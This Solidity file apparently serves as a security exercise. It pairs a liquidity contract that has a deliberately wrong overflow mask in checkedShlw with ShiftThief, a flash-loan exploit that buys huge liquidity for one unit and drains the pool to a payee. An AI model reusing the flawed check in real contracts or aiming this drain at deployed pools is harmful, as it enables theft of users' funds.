// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower} from "../props/Markets.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {Token} from "../props/Tokens.sol";

/// Fixed-point help: whether a number may be shifted is looked up in the wrong mask.
library WideMath {
    function checkedShlw(uint256 n) internal pure returns (uint256) {
        uint256 mask = uint256(0xffffffffffffffff) << 192;
        require(n <= mask, "overflow");
        return n << 64;
    }
}

/// Liquidity in ranges, each of which lies on one side of the price and so holds one token.
contract ShiftedRange {
    uint256 private constant WIDTH = 1 << 72;
    mapping(Token => uint256) public liquidity;
    mapping(Token => mapping(address => uint256)) public positionOf;

    event AddLiquidity(address indexed who, address indexed token, uint256 liquidity, uint256 amount);
    event RemoveLiquidity(address indexed who, address indexed token, uint256 liquidity, uint256 amount);

    /// What liquidity costs, rounded up.
    function costOf(uint256 amount) public pure returns (uint256) {
        uint256 wide = WideMath.checkedShlw(amount * WIDTH);
        return wide / (1 << 136) + (wide % (1 << 136) > 0 ? 1 : 0);
    }

    function addLiquidity(Token token, uint256 amount) external returns (uint256 cost) {
        cost = costOf(amount);
        require(cost > 0, "nothing to pay");
        token.transferFrom(msg.sender, address(this), cost);
        liquidity[token] += amount;
        positionOf[token][msg.sender] += amount;
        emit AddLiquidity(msg.sender, address(token), amount, cost);
    }

    function removeLiquidity(Token token, uint256 amount) external returns (uint256 got) {
        positionOf[token][msg.sender] -= amount;
        liquidity[token] -= amount;
        got = Math.mulDiv(amount * WIDTH, 1 << 64, 1 << 136);
        token.transfer(msg.sender, got);
        emit RemoveLiquidity(msg.sender, address(token), amount, got);
    }
}

/// Buys liquidity without end for one unit, and gives back as much of it as there is money for.
contract ShiftThief is IBorrower {
    ShiftedRange private range;

    function run(ShiftedRange range_, FlashLender lender, Token[] calldata tokens, address payee) external {
        range = range_;
        for (uint256 i = 0; i < tokens.length; i++) {
            lender.flashLoan(this, tokens[i], 1, "");
            tokens[i].transfer(payee, tokens[i].balanceOf(address(this)));
        }
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        Token(token).approve(address(range), amount);
        uint256 there = Token(token).balanceOf(address(range));
        range.addLiquidity(Token(token), (1 << 120) + 1);
        range.removeLiquidity(Token(token), there);
        Token(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// Provides a great deal for a short time with borrowed money, as one does before a large trade, and takes it out again.
contract ShiftMaker is IBorrower {
    address private immutable owner = msg.sender;
    ShiftedRange private immutable range;

    constructor(ShiftedRange range_) {
        range = range_;
    }

    function flash(FlashLender lender, Token token, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        lender.flashLoan(this, token, amount, "");
    }

    function enter(Token token, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        token.approve(address(range), amount);
        range.addLiquidity(token, amount);
    }

    function leave(Token token) external {
        require(msg.sender == owner, "not the owner");
        range.removeLiquidity(token, range.positionOf(token, address(this)));
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        Token(token).approve(address(range), amount);
        range.addLiquidity(Token(token), amount);
        range.removeLiquidity(Token(token), amount);
        Token(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
